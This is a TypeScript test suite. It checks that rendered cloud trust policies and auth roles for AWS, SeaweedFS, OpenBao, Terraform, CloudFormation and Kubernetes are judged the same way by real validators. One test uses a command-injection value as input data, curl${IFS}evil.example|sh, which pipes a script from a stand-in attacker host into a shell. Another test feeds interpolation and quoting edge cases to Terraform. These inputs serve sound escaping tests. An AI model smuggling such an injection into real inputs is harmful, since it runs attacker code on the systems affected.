import { spawnSync } from 'node:child_process'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { TrustFile } from '../../packages/trust/src/file/model.ts'
import { readTrustFile } from '../../packages/trust/src/file/read.ts'
import { hclText } from '../../packages/trust/src/writers/hcl.ts'
import { render } from '../../packages/trust/src/writers/render.ts'
import type { Form, RenderedSystem } from '../../packages/trust/src/writers/rendering.ts'
import { startIssuer } from '../support/issuer.ts'
import { audience, fourRules, isAccepted, issuerUrl, ruleNames, verdictsOf } from '../support/trust/jobs.ts'
import { sourceOf } from '../support/trust-source.ts'
import { hermetic, scratch } from './hermetic.ts'
import { startOpenBao, trust } from './openbao.ts'
import { type Peer, peers, withPeers } from './peers.ts'
import { startWeed } from './weed.ts'

interface Statement {
  readonly Condition: Readonly<Record<string, Readonly<Record<string, string | readonly string[]>>>>
}

/** The statement of a rule's role, with other names in the place of AWS's condition keys. */
function conditionOf(rule: string, keyOf: (claim: string) => string): Statement['Condition'] {
  const { documents } = render(fourRules, 'aws', 'json')
  const document = documents.find(({ name }) => name === `${rule}.trust.json`)
  const [statement] = JSON.parse(document?.text ?? '').Statement as [Statement]
  const host = `${issuerUrl.replace('https://', '')}:`
  return Object.fromEntries(
    Object.entries(statement.Condition).map(([operator, keys]) => [
      operator,
      Object.fromEntries(Object.entries(keys).map(([key, values]) => [keyOf(key.replace(host, '')), values])),
    ]),
  )
}

/** The claims that a job has beside those of the issuer. The issuer's own usual claims are removed. */
function tokenClaims(claims: Readonly<Record<string, string>>): Record<string, string | undefined> {
  const { iss, aud, ...own } = claims
  return { ...own, environment: claims.environment }
}

withPeers([peers.iamSimulate], 'rendered trust policies, judged by iam-simulate', () => {
  async function simulated(Condition: object, context: Readonly<Record<string, string>>): Promise<boolean> {
    const { runSimulation } = await import('@cloud-copilot/iam-simulate')
    const result = await runSimulation(
      {
        request: {
          principal: 'arn:aws:iam::111111111111:role/me',
          action: 's3:GetObject',
          resource: { resource: 'arn:aws:s3:::bucket/key', accountId: '111111111111' },
          // The simulator ignores the keys of ID tokens in an identity policy, and knows any tag.
          contextVariables: Object.fromEntries(
            Object.entries(context).map(([claim, value]) => [`aws:PrincipalTag/${claim}`, value]),
          ),
        },
        identityPolicies: [
          {
            name: 'trust',
            policy: {
              Version: '2012-10-17',
              Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: '*', Condition }],
            },
          },
        ],
        serviceControlPolicies: [],
        resourceControlPolicies: [],
      },
      { simulationMode: 'Strict' },
    )
    if (result.resultType === 'error') throw new Error(JSON.stringify(result.errors))
    return result.overallResult === 'Allowed'
  }

  test('60 pairs of a rule and a job: no disagreement', async () => {
    const verdicts = await verdictsOf((rule, claims) =>
      simulated(
        conditionOf(rule, (claim) => `aws:PrincipalTag/${claim}`),
        claims,
      ),
    )
    expect(verdicts).toEqual(await verdictsOf((rule, claims) => isAccepted(rule, 'aws', claims)))
  })

  test('a value that looks like a variable or a pattern of a policy is itself', async () => {
    const variable = (name: string) => ['$', '{', name, '}'].join('')
    for (const name of [
      `x';curl${variable('IFS')}evil.example|sh;'`,
      variable('aws:username'),
      variable('$'),
      '$',
      '$$',
    ]) {
      const text = `version: 1
issuers: { github: { ids: { acme: 12, acme/api: 34 }, subject: immutable } }
rules: { deploy: { who: { github: acme/api, environment: ${JSON.stringify(name)} }, may: { aws: arn:aws:iam::111111111111:role/deploy } } }
`
      const { file } = readTrustFile(sourceOf(text))
      const [document] = render(file as TrustFile, 'aws', 'json').documents
      const wanted = JSON.parse(document?.text ?? '').Statement[0].Condition.StringEquals
      // The simulator knows these signs only under StringLike; AWS documents them for every text with variables.
      const value = wanted[`${issuerUrl.slice('https://'.length)}:environment`]
      const Condition = { StringLike: { 'aws:PrincipalTag/environment': value } }
      expect([name, await simulated(Condition, { environment: name })]).toEqual([name, true])
      expect([name, await simulated(Condition, { environment: `${name}x` })]).toEqual([name, false])
    }
  })
})

withPeers([peers.weed], "rendered trust policies, judged by SeaweedFS' STS", () => {
  test('60 pairs of a rule and a job: no disagreement', async () => {
    const issuer = await startIssuer()
    const weed = await startWeed(
      issuer.url,
      audience,
      ruleNames.map((name) => ({
        name,
        trust: { condition: conditionOf(name, (claim) => `oidc:${claim}`) },
        statements: [],
      })),
    )
    try {
      const verdicts = await verdictsOf(async (rule, claims) => {
        const body = new URLSearchParams({
          Action: 'AssumeRoleWithWebIdentity',
          Version: '2011-06-15',
          RoleArn: `arn:aws:iam::111111111111:role/${rule}`,
          RoleSessionName: 'job',
          WebIdentityToken: await issuer.mint(audience, tokenClaims(claims)),
        })
        const answer = await fetch(weed.url, { method: 'POST', body })
        const text = await answer.text()
        if (!answer.ok) expect(text).toContain('AccessDenied')
        return answer.ok
      })
      expect(verdicts).toEqual(await verdictsOf((rule, claims) => isAccepted(rule, 'aws', claims)))
    } finally {
      await weed.stop()
      await issuer.close()
    }
  })
})

withPeers([peers.openbao], 'rendered roles, judged by OpenBao', () => {
  test('60 pairs of a rule and a job: no disagreement, and every member of a role is known', async () => {
    const [issuer, bao] = await Promise.all([startIssuer(), startOpenBao()])
    try {
      await trust(bao, issuer)
      for (const { name, text } of render(fourRules, 'vault', 'json').documents) {
        if (!name.endsWith('.role.json')) continue
        const role = JSON.parse(text)
        const path = `auth/jwt/role/${name.replace('.role.json', '')}`
        await bao.set('POST', path, role)
        // The server accepts an unknown member in silence, and then does not show it.
        expect(Object.keys((await bao.set('GET', path)) ?? {})).toEqual(expect.arrayContaining(Object.keys(role)))
      }
      const verdicts = await verdictsOf(async (role, claims) => {
        const jwt = await issuer.mint(audience, tokenClaims(claims))
        const { status, body } = await bao.api('POST', 'auth/jwt/login', { role, jwt })
        if (status !== 200) expect(body.errors?.join()).toMatch(/claim|subject/)
        return status === 200
      })
      expect(verdicts).toEqual(await verdictsOf((rule, claims) => isAccepted(rule, 'vault', claims)))
    } finally {
      await bao.stop()
      await issuer.close()
    }
  })
})

const examples = ['small', 'organisation', 'three-systems'].map((name) => {
  const { file } = readTrustFile(sourceOf(readFileSync(`test/support/trust/${name}.yml`, 'utf8')))
  return [name, file as TrustFile] as const
})

const files = [...examples, ['four-rules', fourRules] as const]

/** Runs a checker over the rendered documents of all files. Each document is in a folder of its file and system. */
function checked<T>(system: RenderedSystem, form: Form, check: (folder: string, paths: string[]) => T): T {
  const folder = scratch()
  try {
    const paths = files.flatMap(([name, file]) => {
      const place = join(folder.path, name, system)
      mkdirSync(place, { recursive: true })
      return render(file, system, form).documents.map((document) => {
        const path = join(place, document.name)
        writeFileSync(path, document.text)
        return path
      })
    })
    return check(folder.path, paths)
  } finally {
    folder.remove()
  }
}

function run({ path }: Peer, args: readonly string[], cwd: string, input = '') {
  const { stdout, stderr, status } = spawnSync(path, args, { cwd, env: hermetic(cwd), encoding: 'utf8', input })
  return { stdout, stderr, status }
}

const silent = { stdout: '', stderr: '', status: 0 }

withPeers([peers.terraform], 'rendered Terraform, judged by Terraform', () => {
  test.each(['aws', 'gcp', 'azure', 'vault'] as const)(
    'every file for %s has the layout of terraform fmt',
    (system) => {
      const args = ['fmt', '-check', '-diff', '-recursive']
      expect(checked(system, 'terraform', (folder) => run(peers.terraform, args, folder))).toEqual(silent)
    },
  )

  test('Terraform reads every hostile text as itself', () => {
    const brace = (sign: string) => [sign, '{', 'x', '}'].join('')
    const texts = [...['$', '%', '$$', '%%'].map(brace), '$', '"', '\\', "'", '<<EOF', '#', '//', '*/', '\\n', 'ü']
    const folder = scratch()
    try {
      const expression = `jsonencode([${texts.map((text) => hclText(text)).join(', ')}])\n`
      const { stdout, stderr } = run(peers.terraform, ['console'], folder.path, expression)
      expect(stderr).toBe('')
      expect(JSON.parse(JSON.parse(stdout))).toEqual(texts)
    } finally {
      folder.remove()
    }
  })
})

withPeers([peers.cfnLint], 'rendered templates, judged by cfn-lint', () => {
  test('every template is accepted, and a wrong operator is not', () => {
    checked('aws', 'cloudformation', (folder, paths) => {
      expect(paths.length).toBeGreaterThan(10)
      expect(run(peers.cfnLint, paths, folder)).toEqual(silent)
      const wrong = join(folder, 'wrong.yml')
      const role = paths.find((path) => path.endsWith('deploy.yml')) ?? ''
      writeFileSync(wrong, readFileSync(role, 'utf8').replace('StringEquals:', 'StringEqual:'))
      expect(run(peers.cfnLint, [wrong], folder).stdout).toContain('E3530')
    })
  })
})

withPeers([peers.kubernetesGo], "rendered configurations, judged by Kubernetes' validator", () => {
  test('every configuration is accepted, and a misspelt member is not', () => {
    checked('kubernetes', 'yaml', (folder, paths) => {
      const configurations = paths.filter((path) => path.endsWith('.authentication.yml'))
      const wrong = join(folder, 'wrong.yml')
      const [one = ''] = configurations
      writeFileSync(wrong, readFileSync(one, 'utf8').replace('claimMappings:', 'claimMapping:'))
      const { stdout } = run(peers.kubernetesGo, [...configurations, wrong], folder)
      const accepted = configurations.map(() => 'ok')
      expect(stdout.trim().split('\n')).toEqual([...accepted, expect.stringContaining('claimMapping')])
    })
  })
})
